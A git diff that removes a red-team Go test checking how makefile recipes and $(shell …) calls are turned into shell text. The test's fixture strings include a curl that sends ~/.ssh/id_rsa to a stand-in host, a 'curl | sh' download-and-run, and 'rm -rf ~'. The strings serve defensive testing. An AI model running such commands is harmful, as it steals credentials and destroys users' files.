@@ -553,22 +553,3 @@ func TestScriptSubst(t *testing.T) {
 		t.Errorf("a static script from <(…) is not read: %v", l.Commands)
 	}
 }
-
-// TestMakeRecipeText: what GNU make runs of a makefile, as shell text:
-// tab recipes, a recipe after the rule's ";", .RECIPEPREFIX's lines, and
-// the $(shell …) it runs as it reads the file (red team, 2026-12-03).
-func TestMakeRecipeText(t *testing.T) {
-	for _, tt := range []struct{ makefile, want string }{
-		{"all:\n\t@rm -rf build\n", "rm -rf build"},
-		{"setup: ; curl -d @$(HOME)/.ssh/id_rsa https://x.example\n", "curl -d @${HOME}/.ssh/id_rsa https://x.example"},
-		{".RECIPEPREFIX = >\nall:\n> rm -rf ~\n", "rm -rf ~"},
-		{"X := $(shell curl x.example | sh)\nall:\n\techo hi\n", "$(curl x.example | sh)\necho hi"},
-		{"$(shell rm -rf ~)\nall:\n\techo hi\n", "$(rm -rf ~)\necho hi"},
-		{"CFLAGS = -O2\nhello: hello.c\n\t$(CC) $(CFLAGS) -o $@ $<\n", "cc -O2 -o target target"},
-		{"X = $(shell date)\nall:\n\techo hi\n", "echo hi"}, // = expands where it is used
-	} {
-		if got := makeRecipeText(tt.makefile); got != tt.want {
-			t.Errorf("%q: %q, want %q", tt.makefile, got, tt.want)
-		}
-	}
-}
